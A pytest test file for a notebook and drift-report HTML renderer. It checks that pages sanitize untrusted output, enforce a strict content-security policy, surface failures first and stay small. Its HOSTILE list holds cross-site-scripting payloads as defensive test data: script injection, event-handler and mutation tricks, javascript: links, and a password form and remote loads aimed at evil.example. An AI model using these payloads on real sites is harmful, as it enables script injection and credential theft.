"""Pages: nothing that runs or fetches gets into them, and what matters is seen first."""

from __future__ import annotations

import json
import subprocess
import sys
from dataclasses import replace
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from pages import Seen, assert_harmless

from mlops_nb.drift import Drift
from mlops_nb.drift.change import Picture
from mlops_nb.drift.page import drift_html
from mlops_nb.drift.result import ColumnDrift, Finding, Moved, Onset, TrendLine
from mlops_nb.notebooks.page import notebook_html
from mlops_nb.pages import ansi_html, clean_html, markdown_html

ROOT = Path(__file__).resolve().parent.parent.parent


def code(source: str, *outputs: dict[str, Any], tags: tuple[str, ...] = ()) -> dict[str, Any]:
    return {'cell_type': 'code', 'source': source, 'metadata': {'tags': list(tags)}, 'outputs': list(outputs)}


def markdown(source: str, **more: Any) -> dict[str, Any]:
    return {'cell_type': 'markdown', 'source': source, 'metadata': {}, **more}


def display(**data: Any) -> dict[str, Any]:
    found = {name.replace('__', '+').replace('_', '/', 1): value for name, value in data.items()}
    return {'output_type': 'display_data', 'data': found, 'metadata': {}}


def stream(text: str, name: str = 'stdout') -> dict[str, Any]:
    return {'output_type': 'stream', 'name': name, 'text': text}


def error(name: str, message: str) -> dict[str, Any]:
    return {'output_type': 'error', 'ename': name, 'evalue': message, 'traceback': [f'\x1b[31m{name}\x1b[0m']}


def page_of(*cells: dict[str, Any], **more: str) -> str:
    return notebook_html({'cells': list(cells), 'metadata': {}}, **{'title': 'a title', **more})


# --- nothing of others runs

HOSTILE = [
    '<script>alert(1)</script>',
    '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
    '<img src=x onerror=alert(1)>',
    '<img src="https://evil.example/pixel.png">',
    '<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x></svg>',
    '<svg><use href="https://evil.example/x.svg#a"></use><image href="https://evil.example/x.png"/></svg>',
    '<svg><style>@import "https://evil.example"</style><foreignObject><script>x</script></foreignObject></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
    '<a href="javascript:alert(1)">a</a><a href=" &#106;avascript:alert(1)">b</a>',
    '<a href="data:text/html,x">c</a>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<div style="position:fixed;inset:0;background:url(https://evil.example)">over everything</div>',
    '<style>body { display: none }</style><link rel=stylesheet href="https://evil.example">',
    '<meta http-equiv=refresh content="0;url=https://evil.example"><base href="https://evil.example">',
    '<form action="https://evil.example"><input name=password><button>go</button></form>',
    '</div></section></main></body></html><h1>after the end',
    '<table><tr><td>open<details><summary>open',
    '<b <i onclick=alert(1)>',
    '<!-- --!><script>alert(1)</script> -->',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<textarea></div><script>alert(1)</script>',
    '<x-y onclick=alert(1)>unknown</x-y>',
    '<p id="cell-1" class="mnb-alert evil" name="x">named</p>',
]


@pytest.mark.parametrize('hostile', HOSTILE)
def test_nothing_hostile_gets_through(hostile: str) -> None:
    error_of_it = error(hostile, hostile)
    error_of_it['traceback'] = [hostile]
    page = page_of(
        markdown(f'# {hostile}\n\n{hostile}\n\n[{hostile}]({hostile})'),
        markdown(f'![{hostile}](https://evil.example/x.png)'),
        code(hostile, stream(hostile), stream(hostile, 'stderr'), display(text_html=hostile, text_plain='x')),
        code(f'# {hostile}', display(text_markdown=hostile), display(text_plain=hostile), error_of_it),
        title=hostile,
        banner=hostile,
    )  # fmt: skip
    seen = assert_harmless(page)
    assert seen.tags.count('html') == seen.tags.count('body') == seen.tags.count('main') == 1
    assert [value for _, name, value in seen.attributes if name == 'id'] == ['cell-1', 'cell-2']


def test_what_cannot_be_shown_is_left_out_with_all_that_is_inside() -> None:
    assert clean_html('a<script>alert(1)</script>b') == 'ab'
    assert clean_html('a<style>b{}</style><svg><style>c</style><g></g></svg>') == 'a<svg><g></g></svg>'
    assert clean_html('a<template><template>b</template>c</template>d<iframe>never closed') == 'ad'


def test_an_svg_of_others_is_shown_as_a_picture_that_cannot_run() -> None:
    svg = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'
    page = page_of(
        code('draw()', {'output_type': 'display_data', 'data': {'image/svg+xml': svg}, 'metadata': {}})
    )
    assert_harmless(page)
    assert 'src="data:image/svg+xml;base64,' in page
    assert 'alert(' not in page


def test_the_policy_forbids_what_might_slip_through_and_comes_first() -> None:
    page = page_of(code('1'))
    head = page[: page.index('<style>')]
    assert "default-src 'none'; style-src 'unsafe-inline'; img-src data:" in head
    assert head.index('Content-Security-Policy') < head.index('<title>')


# --- what others wrote stays readable


def test_a_table_of_pandas_keeps_its_rows_and_loses_its_style() -> None:
    import pandas as pd

    frame = pd.DataFrame({'carrier': ['UA', '<script>'], 'late': [0.187, 0.287]})
    page = page_of(code('frame', display(text_html=frame.to_html(), text_plain=str(frame))))
    seen = assert_harmless(page)
    assert 'class="dataframe"' in page
    assert [seen.tags.count(tag) for tag in ('table', 'tr', 'td')] == [1, 3, 4]
    assert '<script>' in seen.text


def test_a_styled_table_that_quotes_a_script_is_shown_as_a_table() -> None:
    import pandas as pd

    html = pd.DataFrame({'x': ['<script>alert(1)</script>', 'fine']}).style.to_html()
    seen = assert_harmless(page_of(code('x', display(text_html=html, text_plain='<Styler>'))))
    assert seen.tags.count('td') == 2
    assert 'fine' in seen.text


def test_html_that_needs_a_script_gives_way_to_the_next_form() -> None:
    html = '<div id="plot"></div><script>draw()</script>'
    assert 'a plot' in page_of(code('x', display(text_html=html, text_plain='a plot')))
    assert 'src="data:image/png;base64,iVBO"' in page_of(code('x', display(text_html=html, image_png='iVBO')))


def test_markdown_has_tables_links_pictures_and_no_more() -> None:
    cell = markdown(
        '| a | b |\n|---|--:|\n| 1 | ~~2~~ |\n\n<b>bold</b> [web](https://x.example) ![p](attachment:p.png)',
        attachments={'p.png': {'image/png': 'iVBO\nRw=='}},
    )
    seen = assert_harmless(page_of(cell))
    assert {'table', 's', 'b', 'a'} <= set(seen.tags)
    assert ('img', 'src', 'data:image/png;base64,iVBORw==') in seen.attributes
    assert ('a', 'rel', 'noopener noreferrer') in seen.attributes


def test_colours_of_a_terminal_are_spans_and_progress_bars_are_their_last_state() -> None:
    page = page_of(
        code('fit()', stream('1 %\r'), stream('50 %\r'), stream('100 %\n\x1b[1;32mdone\x1b[0m\x07\n'))
    )
    assert '50 %' not in page
    assert '<pre>100 %\n<span class="mnb-b mnb-f2">done</span>\n</pre>' in page


@pytest.mark.parametrize(
    'text', ['\x1b[38;5;999m', '\x1b[38;2;1m', '\x1b[;;;m', '\x1b[', '\x1b]0;', '\x9b31m', '\x00']
)
def test_broken_escape_sequences_do_no_harm(text: str) -> None:
    assert '<b>' not in ansi_html(f'{text}<b>')


def test_a_very_long_output_is_cut_and_says_so() -> None:
    page = page_of(code('loop()', stream('start ' + 'x' * 3_000_000 + ' end')))
    assert len(page) < 200_000
    assert 'characters are left out here' in page
    assert 'start' in page
    assert ' end' in page


# --- what matters is seen first


def test_a_failed_notebook_says_so_first_and_marks_the_cell() -> None:
    page = page_of(
        markdown('# Train'),
        code('fine()'),
        code('fit(1)', error('ValueError', 'depth is 0\nexpected more')),
        code('never()'),
        code('nor_this()'),
    )
    seen = assert_harmless(page)
    body = seen.text[seen.text.index('Stopped') :]
    assert body.split('\n')[0] == 'Stopped in cell 2. ValueError: depth is 0'
    assert '2 code cells after it did not run.' in body
    assert page.index('Stopped in') < page.index('<h1>Train')
    assert page.count('mnb-failed"') == 1
    failed = page[page.index('id="cell-2"') : page.index('id="cell-3"')]
    assert '<details class="mnb-code" open>' in failed
    assert 'expected more' in failed


def test_an_error_that_a_notebook_shows_on_purpose_is_no_failure() -> None:
    cell = code('refuse()', error('UsageError', 'no'), tags=('raises-exception',))
    page = page_of(cell, code('more()', stream('went on')))
    assert 'Stopped' not in page
    assert 'UsageError' in page


def test_only_parameters_stand_open() -> None:
    page = page_of(
        code('months = 6', tags=('parameters',)),
        code('import numpy'),
        code('months = 7', tags=('injected-parameters',)),
    )
    assert page.count('<details class="mnb-code" open>') == 2
    assert page.count('<details class="mnb-code">') == 1


def test_a_notebook_without_a_title_gets_one_and_one_with_a_title_keeps_its_own() -> None:
    assert Seen(page_of(code('1'))).tags.count('h1') == 1
    page = page_of(markdown('# Mine'), code('1'))
    assert Seen(page).tags.count('h1') == 1
    assert '<h1>Mine</h1>' in page
    assert '<title>a title</title>' in page


@pytest.mark.parametrize(
    'cells', [[], [markdown('')], [code('')], [{'cell_type': 'raw', 'source': 'x', 'metadata': {}}]]
)
def test_an_empty_notebook_is_a_page_too(cells: list[dict[str, Any]]) -> None:
    assert assert_harmless(page_of(*cells)).tags.count('section') == 0


@pytest.mark.parametrize('path', sorted((ROOT / 'nbs').rglob('*.ipynb')), ids=lambda path: path.stem)
def test_each_notebook_of_this_project_becomes_a_harmless_page(path: Path) -> None:
    notebook = json.loads(path.read_text('utf-8'))
    page = notebook_html(notebook, title=path.stem)
    seen = assert_harmless(page)
    assert seen.tags.count('details') >= sum(cell['cell_type'] == 'code' for cell in notebook['cells'])
    assert 'role="alert"' not in page


def test_cleaning_twice_changes_nothing_more() -> None:
    for html in HOSTILE:
        assert clean_html(clean_html(html)) == clean_html(html)
    assert markdown_html('a < b & c') == '<p>a &lt; b &amp; c</p>\n'


def test_importing_page_imports_nothing_heavy() -> None:
    code = (
        'import sys, mlops_nb.pages.html\n'
        'heavy = "jinja2", "pygments", "markdown_it", "nbformat", "matplotlib", "pandas"\n'
        'print([name for name in heavy if name in sys.modules])'
    )
    assert subprocess.run([sys.executable, '-c', code], capture_output=True, text=True).stdout == '[]\n'


# --- a page about five hundred columns


def wide_drift(columns: int, batches: int, *, drifted: int) -> Drift:
    "A comparison of many columns over many batches, with everything that a page can show."
    rng = np.random.default_rng(0)
    names = tuple(f'2013-{k // 28 + 1:02}-{k % 28 + 1:02}' for k in range(batches))
    found = []
    for k in range(columns):
        shares = rng.dirichlet(np.ones(20), 2)
        picture = Picture(tuple(np.linspace(0, 1e6 * (k + 1), 21)), (), *(tuple(one) for one in shares))
        trend = TrendLine('median', tuple(rng.normal(k, 1, batches)), k - 3.0, k + 3.0)
        verdict = 'drift' if k < drifted else 'stable'
        found.append(
            ColumnDrift(
                f'a column with a long name {k}', 'number', verdict, 'median 4 → 9; ' * 6, 0.001, 0.001,
                0.2, 0.1, (0.1, 0.2), moved=Moved(0.1, (0.0, 0.1), 0.3, (0.1, 0.2)), trend=trend,
                onset=Onset(names[-3], 'slow', 3, 0.01), importance=0.1, picture=picture,
                findings=(Finding('distribution', 'moved up ' * 20),),
            )
        )  # fmt: skip
    return Drift('a batch', 10**7, names[:-1], 0.01, True, tuple(found), batches=names)


@pytest.mark.parametrize(('columns', 'drifted'), [(500, 10), (500, 500), (20_000, 3)])
def test_a_page_stays_under_a_megabyte_whatever_the_data(columns: int, drifted: int) -> None:
    drift = wide_drift(columns, 90, drifted=drifted)
    page = drift_html(drift, title='wide', about=(), tail='commands.html', commands=())
    seen = assert_harmless(page)
    assert len(page.encode()) < 1_000_000
    assert seen.tags.count('article') == min(drifted, 30)
    listed = page.count('mnb-spark"')
    assert listed == columns if columns == 500 else 500 < listed < columns
    assert listed == columns or f'{columns - listed:,} more columns, none drifted' in seen.text


def test_a_comparison_of_nothing_and_of_odd_values_is_a_page_too() -> None:
    odd = ColumnDrift('', 'other', 'cannot tell', 'no values', 1.0, 1.0)
    gaps = TrendLine('median', (None, 1.0, None, float(2**60)), None, None)
    point = Picture((5.0, 5.0), (), (1.0,), (1.0,))
    columns = odd, replace(odd, column='x', verdict='drift', trend=gaps, picture=point)
    for found in (), columns:
        drift = Drift('', 0, (), 0.01, False, found, batches=('a', 'b', 'c', 'd'))
        page = drift_html(drift, title='odd', about=(), tail='commands.html', commands=())
        assert 'nan' not in assert_harmless(page).text.lower()
